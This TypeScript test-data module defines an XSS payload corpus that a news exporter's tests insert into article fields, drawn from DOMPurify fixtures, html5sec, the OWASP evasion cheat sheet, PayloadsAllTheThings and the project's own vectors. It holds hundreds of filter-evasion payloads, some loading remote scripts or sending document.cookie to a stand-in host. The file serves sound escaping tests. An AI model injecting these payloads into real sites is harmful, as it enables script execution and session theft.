/**
 * The XSS corpus the export tests place in every field of an article (see SOURCES.md in this folder
 * for where each group comes from and under which licence it is used). Payloads are test data: they
 * are only ever rendered as text by the exporter and then checked, never executed outside the
 * browser test's throwaway page.
 */

/** The marker that payloads written for Newsdesk print, log or request: seeing it in the browser means a payload ran. */
export const xssMarker = 'NDXSS7q';

export interface PayloadGroup {
  /** Short name used in test titles. */
  name: string;
  /** Where the payloads were taken from (a file in a repository, or a page). */
  source: string;
  licence: string;
  payloads: readonly string[];
}

/** From DOMPurify's own test fixtures, test/fixtures/expect.mjs (cure53/DOMPurify, Apache-2.0 OR MPL-2.0). */
const dompurify: PayloadGroup = {
  name: 'DOMPurify fixtures',
  source: 'https://github.com/cure53/DOMPurify/blob/main/test/fixtures/expect.mjs',
  licence: 'Apache-2.0 OR MPL-2.0 (Copyright Dr.-Ing. Mario Heiderich, Cure53)',
  payloads: [
    '<b href="javascript:alert(1)" title="javascript:alert(2)"></b>',
    '<img src="data:,123"><audio src="data:,456"></audio><video src="data:,789"></video><source src="data:,012"><div src="data:,345">',
    '<img src=x name=createElement><img src=y id=createElement>',
    '<img src=x name=cookie>',
    "123<a href='\u2028javascript:alert(1)'>I am a dolphin!</a>",
    "123<a href='\u2029javascript:alert(1)'>I am a dolphin too!</a>",
    "123<a href=' javascript:alert(1)'>CLICK</a><a href='&#xA0javascript:alert(1)'>CLICK</a><a href='&#x1680;javascript:alert(1)'>CLICK</a><a href='&#x180E;javascript:alert(1)'>CLICK</a><a href='&#x2000;javascript:alert(1)'>CLICK</a><a href='&#x200B;javascript:alert(1)'>CLICK</a><a href='&#x205f;javascript:alert(1)'>CLICK</a><a href='&#x3000;javascript:alert(1)'>CLICK</a>",
    '<img src=data:image/jpeg,ab798ewqxbaudbuoibeqbla>',
    '<img src="\r\ndata:image/jpeg,ab798ewqxbaudbuoibeqbla">',
    "<img src='javascript:while(1){}'>",
    '<a href=data:,evilnastystuff>clickme</a>',
    "<form onmouseover='alert(1)'><input name=\"attributes\"><input name=\"attributes\">",
    '<img src=x name=getElementById>',
    '<a href="#some-code-here" id="location">invisible',
    '<div onclick=alert(0)><form onsubmit=alert(1)><input onfocus=alert(2) name=parentNode>123</form></div>',
    '<form onsubmit=alert(1)><input onfocus=alert(2) name=nodeName>123</form>',
    '<form onsubmit=alert(1)><input onfocus=alert(2) name=removeAttributeNode>123</form>',
    '<style>*{color: red}</style>',
    '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>',
    "<img src=x id/=' onerror=alert(1)//'>",
    '<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror=alert(1)>-->',
    '<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>',
    '<b><noscript><a alt="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<body><template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>',
    '<a href="\u0001java\u0003script:alert(1)">@shafigullin<a>',
    '\u0001<option><style></option></select><b><img src=x onerror=alert(1)></style></option>',
    '<option><iframe></select><b><script>alert(1)</script>',
    '</iframe></option>',
    '<b><style><style/><img src=x onerror=alert(1)>',
    '<b><style><style////><img src=x onerror=alert(1)></style>',
    '<image name=body><image name=adoptNode>@mmrupp<image name=firstElementChild><svg onload=alert(1)>',
    '<image name=activeElement><svg onload=alert(1)>',
    '<image name=body><img src=x><svg onload=alert(1); autofocus>, <keygen onfocus=alert(1); autofocus>',
    '<div onmouseout="javascript:alert(/superevr/)" x=yscript: n>@superevr</div>',
    '<button remove=me onmousedown="javascript:alert(1);" onclick="javascript:alert(1)" >@giutro',
    '<a href="javascript:123" onclick="alert(1)">CLICK ME (bypass by @shafigullin)</a>',
    '<isindex x="javascript:" onmouseover="alert(1)" label="variation of bypass by @giutro">',
    '<div wow=removeme onmouseover=alert(1)>text',
    '<input x=javascript: autofocus onfocus=alert(1)><svg id=1 onload=alert(1)></svg>',
    '<isindex src="javascript:" onmouseover="alert(1)" label="bypass by @giutro" />',
    '<form action="javasc\nript:alert(1)"><button>XXX</button></form>',
    '<svg></p><textarea><title><style></textarea><img src=x onerror=alert(1)></style></title></svg>',
    '<svg></p><title><a id="</title><img src=x onerror=alert()>"></textarea></svg>',
    '<math></p><textarea><mi><style></textarea><img src=x onerror=alert(1)></mi></math>',
    '<svg></p><title><template><style></title><img src=x onerror=alert(1)>',
    '<math></br><textarea><mtext><template><style></textarea><img src=x onerror=alert(1)>',
    '<form><input name=namespaceURI>',
    '<svg></p><math><title><style><img src=x onerror=alert(1)></style></title>',
    '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    '<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>',
    '<math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>',
    "<xmp><svg><b><style><b title='</style><img>'>",
    "<noembed><svg><b><style><b title='</style><img>'>",
    '<form><math><mtext></form><form><mglyph><style><img src=x onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><math href=javascript:alert(1)>CLICKME</math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=\'alert(1)\'>"></style></h1>',
    'a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=alert(1)>">',
    '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=\'#\' onerror=\'alert(1)\'>">',
    '<b is="foo">bar</b>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
    '<svg><image id="v-146" width="500" height="500" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="data:image/svg+xml;utf8,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%3E%3C%2Fsvg%3E"></image></svg>',
    '<input type=checkbox checked><input type=checkbox onclick>',
  ],
};

/**
 * The html5sec.org vectors (Mario Heiderich's HTML5 Security Cheatsheet) as DOMPurify's fixtures
 * carry them (the entries "<div id=N>…//[\"'`-->]]>]</div>"); taken from that file, so under its licence.
 */
const html5sec: PayloadGroup = {
  name: 'html5sec via DOMPurify fixtures',
  source: 'https://github.com/cure53/DOMPurify/blob/main/test/fixtures/expect.mjs (vectors originally from https://html5sec.org)',
  licence: 'Apache-2.0 OR MPL-2.0 (as redistributed in DOMPurify\'s fixtures)',
  payloads: [
    '<div id="1"><form id="foobar"></form><button form="foobar" formaction="javascript:alert(1)">X</button>//["\'`-->]]>]</div>',
    '<div id="3"><meta charset="x-imap4-modified-utf7">&<script&S1&TS&1>alert&A7&(1)&R&UA;&&<&A9&11/script&X&>//["\'`-->]]>]</div>',
    '<div id="7"><input onfocus=alert(7) autofocus>//["\'`-->]]>]</div>',
    '<div id="8"><input onblur=alert(8) autofocus><input autofocus>//["\'`-->]]>]</div>',
    '<div id="10"><video poster=javascript:alert(10)//></video>//["\'`-->]]>]</div>',
    '<div id="11"><svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:alert(11)"></g></svg>//["\'`-->]]>]</div>',
    '<div id="12"><body onscroll=alert(12)><br><br><br><br><br><br>...<br><br><br><br><input autofocus>//["\'`-->]]>]</div>',
    '<div id="17"><?xml-stylesheet href="javascript:alert(17)"?><root/>//["\'`-->]]>]</div>',
    '<div id="18"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>//["\'`-->]]>]</div>',
    '<div id="25"><script src="#">{alert(25)}</script>;1//["\'`-->]]>]</div>',
    '<div id="29"><link rel=stylesheet href=data:,*%7bx:expression(alert(29))%7d//["\'`-->]]>]</div>',
    '<div id="30"><style>@import "data:,*%7bx:expression(alert(30))%7D";</style>//["\'`-->]]>]</div>',
    '<div id="31"><frameset onload=alert(31)>//["\'`-->]]>]</div>',
    '<div id="32"><table background="javascript:alert(32)"></table>//["\'`-->]]>]</div>',
    '<div id="37"><!--<img src="--><img src=x onerror=alert(37)//">//["\'`-->]]>]</div>',
    '<div id="38"><comment><img src="</comment><img src=x onerror=alert(38)//">//["\'`-->]]>]</div>',
    '<![><img src="]><img src=x onerror=alert(39)//">',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>//["\'`-->]]>]</div>',
    '<div id="40"><style><img src="</style><img src=x onerror=alert(40)//">//["\'`-->]]>]</div>',
    '<div id="41"><li style=list-style:url() onerror=alert(41)></li>',
    '<div id="42"><head><base href="javascript://"/></head><body><a href="/. /,alert(42)//#">XXX</a></body>//["\'`-->]]>]</div>',
    '<div id="47"><svg xmlns="http://www.w3.org/2000/svg"><script>alert(47)</script></svg>//["\'`-->]]>]</div>',
    '<div id="48"><SCRIPT FOR=document EVENT=onreadystatechange>alert(48)</SCRIPT>//["\'`-->]]>]</div>',
    '<div id="49"><OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(49)"></OBJECT>//["\'`-->]]>]</div>',
    '<div id="50"><object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>//["\'`-->]]>]</div>',
    '<div id="51"><embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></embed>//["\'`-->]]>]</div>',
    '<div id="55"><video><source onerror="alert(55)">//["\'`-->]]>]</div>',
    '<div id="56"><video onerror="alert(56)"><source></source></video>//["\'`-->]]>]</div>',
    '<div id="57"><b <script>alert(57)//</script>0</script></b>//["\'`-->]]>]</div>',
    '<div id="58"><b><script<b></b><alert(58)</script </b></b>//["\'`-->]]>]</div>',
    '<div id="59"><div id="div1"><input value="``onmouseover=alert(59)"></div> <div id="div2"></div><script>document.getElementById("div2").innerHTML = document.getElementById("div1").innerHTML;</script>//["\'`-->]]>]</div>',
    '<div id="63"><embed src="javascript:alert(63)"></embed>\n<img src="javascript:alert(2)">\n<image src="javascript:alert(2)">\n<script src="javascript:alert(3)"></script>//["\'`-->]]>]</div>',
    '<div id="65"><svg onload="javascript:alert(65)" xmlns="http://www.w3.org/2000/svg"></svg>//["\'`-->]]>]</div>',
    '<div id="72"><form><button formaction="javascript:alert(72)">X</button>//["\'`-->]]>]</div>',
    '<div id="74"><a href="javascript:alert(74)"><event-source src="data:application/x-dom-event-stream,Event:click%0Adata:XXX%0A%0A" /></a>//["\'`-->]]>]</div>',
    '<div id="75"><script<{alert(75)}/></script </>//["\'`-->]]>]</div>',
    '<div id="86"><body oninput=alert(86)><input autofocus>//["\'`-->]]>]</div>',
    '<div id="87"><svg xmlns="http://www.w3.org/2000/svg">\n<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(87)"><rect width="1000" height="1000" fill="white"/></a>\n</svg>//["\'`-->]]>]</div>',
    '<div id="89"><svg xmlns="http://www.w3.org/2000/svg">\n<set attributeName="onmouseover" to="alert(89)"/>\n<animate attributeName="onunload" to="alert(89)"/>\n</svg>//["\'`-->]]>]</div>',
    '<div id="102"><img src="x` `<script>alert(102)</script>"` `>//["\'`-->]]>]</div>',
    '<div id="106"><img src onerror /" \'"= alt=alert(106)//">//["\'`-->]]>]</div>',
    '<div id="107"><title onpropertychange=alert(107)></title><title title=></title>//["\'`-->]]>]</div>',
    '<div id="115"><!--[if]><script>alert(115)</script -->\n<!--[if<img src=x onerror=alert(2)//]> -->//["\'`-->]]>]</div>',
    '<div id="128"><svg><style><img/src=x onerror=alert(128)// </b>//["\'`-->]]>]</div>',
    '<div id="129"><svg><image style=\'filter:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>parent.alert(129)</script></svg>")\'>\n</svg>//["\'`-->]]>]</div>',
    '<div id="130"><math href="javascript:alert(130)">CLICKME</math>\n<math>\n<maction actiontype="statusline" xlink:href="javascript:alert(3)">CLICKME<mtext>http://http://google.com</mtext></maction>\n</math>//["\'`-->]]>]</div>',
    '<div id="133"><!-- `<img/src=xxx onerror=alert(133)//--!>//["\'`-->]]>]</div>',
    '<div id="137"><svg>\n<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="?">\n<circle r="400"></circle>\n<animate attributeName="xlink:href" begin="0" from="javascript:alert(137)" to="&" />\n</a>//["\'`-->]]>]</div>',
  ],
};

/** From the OWASP XSS Filter Evasion Cheat Sheet (OWASP/CheatSheetSeries, cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md). */
const owasp: PayloadGroup = {
  name: 'OWASP XSS Filter Evasion Cheat Sheet',
  source: 'https://github.com/OWASP/CheatSheetSeries/blob/master/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md',
  licence: 'CC BY-SA 4.0 (OWASP Cheat Sheet Series; based on RSnake\'s XSS Cheat Sheet)',
  payloads: [
    '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
    'javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload=\'+/"`/+/onmouseover=1/+/[*/[]/+alert(42);//\'>',
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<a onmouseover=alert(document.cookie)>xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
    '<IMG SRC=# onmouseover="alert(\'xxs\')">',
    '<IMG SRC= onmouseover="alert(\'xxs\')">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
    '<IMG SRC="jav\tascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
    '<IMG SRC=java\u0000script:alert("XSS")>',
    '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
    '<SCRIPT SRC=//xss.rocks/.j>',
    '<iframe src=http://xss.rocks/scriptlet.html <',
    '\\";alert(\'XSS\');//',
    '</script><script>alert(\'XSS\');</script>',
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
    '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
    '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
    '<svg/onload=alert(\'XSS\')>',
    '<BODY ONLOAD=alert(\'XSS\')>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
    '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
    '<XSS STYLE="xss:expression(alert(\'XSS\'))">',
    '\u00BCscript\u00BEalert(\u00A2XSS\u00A2)\u00BC/script\u00BE',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
    '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
    '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
    '<DIV STYLE="width: expression(alert(\'XSS\'));">',
    '<!--[if gte IE 4]>\n<SCRIPT>alert(\'XSS\');</SCRIPT>\n<![endif]-->',
    '<BASE HREF="javascript:alert(\'XSS\');//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>\n<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-',
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>',
    '<img onload="eval(atob(\'ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly9saXN0ZXJuSVAvIitkb2N1bWVudC5jb29raWU=\'))">',
    '<A HREF="h \ntt  p://6\t6.000146.0x7.147/">XSS</A>',
  ],
};

/** From PayloadsAllTheThings, XSS Injection (swisskyrepo/PayloadsAllTheThings, MIT). */
const payloadsAllTheThings: PayloadGroup = {
  name: 'PayloadsAllTheThings',
  source: 'https://github.com/swisskyrepo/PayloadsAllTheThings/tree/master/XSS%20Injection (Intruders/XSS_Polyglots.txt, 1 - XSS Filter Bypass.md)',
  licence: 'MIT (Copyright (c) 2019 Swissky)',
  payloads: [
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
    '\';alert(String.fromCharCode(88,83,83))//\';alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//--></SCRIPT>">\'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>',
    '\u201C onclick=alert(1)//<button \u2018 onclick=alert(1)//> */ alert(1)//',
    '\'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>\'-->"></script><script>alert(1)</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id&%23x29;>\'"><img src="http://i.imgur.com/P8mL8.jpg">',
    'javascript://\'/</title></style></textarea></script>--><p" onclick=alert()//>*/alert()/*',
    'javascript://--></script></title></style>"/</textarea>*/<alert()/*\' onclick=alert()//>a',
    'javascript://</title>"/</script></style></textarea/-->*/<alert()/*\' onclick=alert()//>/',
    'javascript://\'//" --></textarea></style></script></title><b onclick= alert()//>*/alert()/*',
    'javascript://</title></textarea></style></script --><li \'//" \'*/alert()/*\', onclick=alert()//',
    '/</title/\'/</style/</script/</textarea/--><p" onclick=alert()//>*/alert()/*',
    'javascript:/*--></title></style></textarea></script></xmp><details/open/ontoggle=\'+/`/+/"/+/onmouseover=1/+/[*/[]/+alert(/@PortSwiggerRes/)//\'>',
    '<sCrIpt>alert(1)</ScRipt>',
    '<script x>alert(\'XSS\')<script y>',
    '<img src=\'1\' onerror=\'alert(0)\' <',
    '<a href="" onmousedown="var name = \'&#39;;alert(1)//\'; alert(\'smthg\')">Link</a>',
    '<script>onerror=alert;throw 1337</script>',
    '<object onafterscriptexecute=confirm(0)>',
    '<img src=\'1\' onerror\u0000=alert(0) />',
    '<img src=\'1\' onerror\u000b=alert(0) />',
    '<img src=\'1\' onerror/=alert(0) />',
    '<img/src=\'1\'/onerror=alert(0)>',
    '<svg\u000conload\u000c=\u000calert(1)\u000c>',
    '"><svg/onload=confirm(1)>"@x.y',
    'xss@example.com(<img src=\'x\' onerror=\'alert(document.location)\'>)',
    '<svg onload=alert(1)//',
    '\uFF1Cscript/src=//evil.site/poc.js\uFF1E',
    '></script><svg onload=%26%2397%3B%26%23108%3B%26%23101%3B%26%23114%3B%26%23116%3B(document.domain)>',
    '<script>alert&DiacriticalGrave;1&DiacriticalGrave;</script>',
    '\u02BA\uFF1E\uFF1Csvg onload=alert(/XSS/)\uFF1E/',
    '<\u017Fvg onload=alert(1)>',
    '+ADw-img src=+ACI-1+ACI- onerror=+ACI-alert(1)+ACI- /+AD4-',
  ],
};

/**
 * Written for Newsdesk: payloads aimed at the places the exporter writes text into (the JSON-LD
 * script, <title>, attribute values, link hrefs, the stylesheet) and at the characters that have
 * caught out escapers before. Those that would run code print, log or fetch `xssMarker`.
 */
const newsdesk: PayloadGroup = {
  name: 'Newsdesk export contexts',
  source: 'written for this project',
  licence: 'same as this repository',
  payloads: [
    `</script><script>console.log('${xssMarker}')</script>`,
    `</SCRIPT ><img src=x onerror=console.log('${xssMarker}')>`,
    `"}</script><script>alert('${xssMarker}')</script>{"`,
    `\\u003c/script\\u003e<script>alert('${xssMarker}')</script>`,
    `<!--<script>console.log('${xssMarker}')</script>-->`,
    `</title><script>console.log('${xssMarker}')</script>`,
    `</title></head><body onload=console.log('${xssMarker}')>`,
    `</textarea></style></noscript></template><img src=x onerror=console.log('${xssMarker}')>`,
    `" onmouseover="console.log('${xssMarker}')" x="`,
    `' onfocus='console.log("${xssMarker}")' autofocus x='`,
    `"><img src=x onerror=console.log('${xssMarker}')>`,
    `' autofocus onfocus=alert('${xssMarker}') '`,
    `\`><img src=x onerror=alert('${xssMarker}')>`,
    `"/><meta http-equiv="refresh" content="0;url=javascript:alert('${xssMarker}')">`,
    `"><base href="https://${xssMarker.toLowerCase()}.invalid/">`,
    `<base href="javascript:alert('${xssMarker}')//">`,
    `<meta http-equiv="refresh" content="0;url=https://${xssMarker.toLowerCase()}.invalid/">`,
    `<iframe srcdoc="<script>parent.console.log('${xssMarker}')</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src=x onerror=parent.alert('${xssMarker}')&gt;"></iframe>`,
    `<svg><script>console.log('${xssMarker}')</script></svg>`,
    `<svg><a xlink:href="javascript:alert('${xssMarker}')"><text y="20">x</text></a></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=console.log('${xssMarker}')>`,
    `<style>body{background:url("javascript:alert('${xssMarker}')")}</style>`,
    `</style><style>@import "https://${xssMarker.toLowerCase()}.invalid/x.css";</style>`,
    `<div style="width: expression(alert('${xssMarker}'));background:url(https://${xssMarker.toLowerCase()}.invalid/bg.png)">x</div>`,
    `<link rel="import" href="https://${xssMarker.toLowerCase()}.invalid/x.html">`,
    `<link rel=stylesheet href="https://${xssMarker.toLowerCase()}.invalid/x.css">`,
    `<img src="https://${xssMarker.toLowerCase()}.invalid/pixel.png">`,
    `<video><source src="https://${xssMarker.toLowerCase()}.invalid/a.mp4" onerror="console.log('${xssMarker}')"></video>`,
    `<object data="data:text/html,<script>alert('${xssMarker}')</script>"></object>`,
    `<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
    `<form action="javascript:alert('${xssMarker}')"><button formaction="javascript:alert('${xssMarker}')">Gửi</button></form>`,
    `<details open ontoggle=console.log('${xssMarker}')>`,
    `<img src=x onerror=fetch('https://${xssMarker.toLowerCase()}.invalid/'+document.cookie)>`,
    `javascript:alert('${xssMarker}')`,
    `JaVaScRiPt:alert('${xssMarker}')`,
    `java\tscript:alert('${xssMarker}')`,
    `java\nscript:alert('${xssMarker}')`,
    `java\rscript:alert('${xssMarker}')`,
    ` \u0000javascript:alert('${xssMarker}')`,
    `\u0001\u0002 javascript:alert('${xssMarker}')`,
    `\u2028javascript:alert('${xssMarker}')`,
    `&#106;avascript:alert('${xssMarker}')`,
    `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('${xssMarker}')`,
    `javascript&colon;alert('${xssMarker}')`,
    `vbscript:msgbox("${xssMarker}")`,
    `VBScript:msgbox("${xssMarker}")`,
    `data:text/html,<script>alert('${xssMarker}')</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `DATA:TEXT/HTML,<script>alert('${xssMarker}')</script>`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${xssMarker}')"/>`,
    `https://example.com/"onmouseover="alert('${xssMarker}')`,
    `https://example.com/'onmouseover='alert("${xssMarker}")`,
    `https://example.com/?a=<script>alert('${xssMarker}')</script>&b="&c='`,
    `https://example.com/\`><img src=x onerror=alert('${xssMarker}')>`,
    `mailto:a@example.com?subject="><img src=x onerror=alert('${xssMarker}')>`,
    `//${xssMarker.toLowerCase()}.invalid/x`,
    `\u2028\u2029</script>\u2028<script>alert('${xssMarker}')\u2029</script>`,
    `\u0000<script>alert('${xssMarker}')</script>\u0000`,
    `\uFEFF<scr\u0000ipt>alert('${xssMarker}')</scr\u0000ipt>`,
    `\u{1F4A5}<img src=x onerror=alert('${xssMarker}')>\u{1F4A5}`,
    `Tin nóng: <b onmouseover=alert('${xssMarker}')>Hồ Chí Minh</b> & "Hà Nội" — ‘trích dẫn’ <i>nghiêng</i>`,
    `\\"}]}</script><script>alert('${xssMarker}')</script>`,
    `]]><![CDATA[<script>alert('${xssMarker}')</script>]]>`,
    `<?xml version="1.0"?><script>alert('${xssMarker}')</script>`,
    `{{constructor.constructor('alert("${xssMarker}")')()}}`,
    `\${alert('${xssMarker}')}`,
    `&lt;script&gt;alert('${xssMarker}')&lt;/script&gt; &amp;lt; &#60; &#x3c; &LT`,
    `<noscript><p title="</noscript><img src=x onerror=alert('${xssMarker}')>">`,
    `<template><script>alert('${xssMarker}')</script></template>`,
    `<a href="javascript:alert('${xssMarker}')" ping="https://${xssMarker.toLowerCase()}.invalid/">bấm</a>`,
  ],
};

export const payloadGroups: readonly PayloadGroup[] = [dompurify, html5sec, owasp, payloadsAllTheThings, newsdesk];

/** One payload with the group it came from. */
export interface Payload {
  group: string;
  /** Position in its group, for short names in failure messages. */
  index: number;
  text: string;
}

/** Every distinct payload, first occurrence kept. */
export const payloads: readonly Payload[] = (() => {
  const seen = new Set<string>();
  const all: Payload[] = [];
  for (const group of payloadGroups) {
    group.payloads.forEach((text, index) => {
      if (seen.has(text)) return;
      seen.add(text);
      all.push({ group: group.name, index, text });
    });
  }
  return all;
})();

/** "group #index: first characters", for failure messages. */
export function payloadLabel(payload: Payload): string {
  const shown = JSON.stringify(payload.text.length > 60 ? `${payload.text.slice(0, 60)}…` : payload.text);
  return `${payload.group} #${payload.index}: ${shown}`;
}
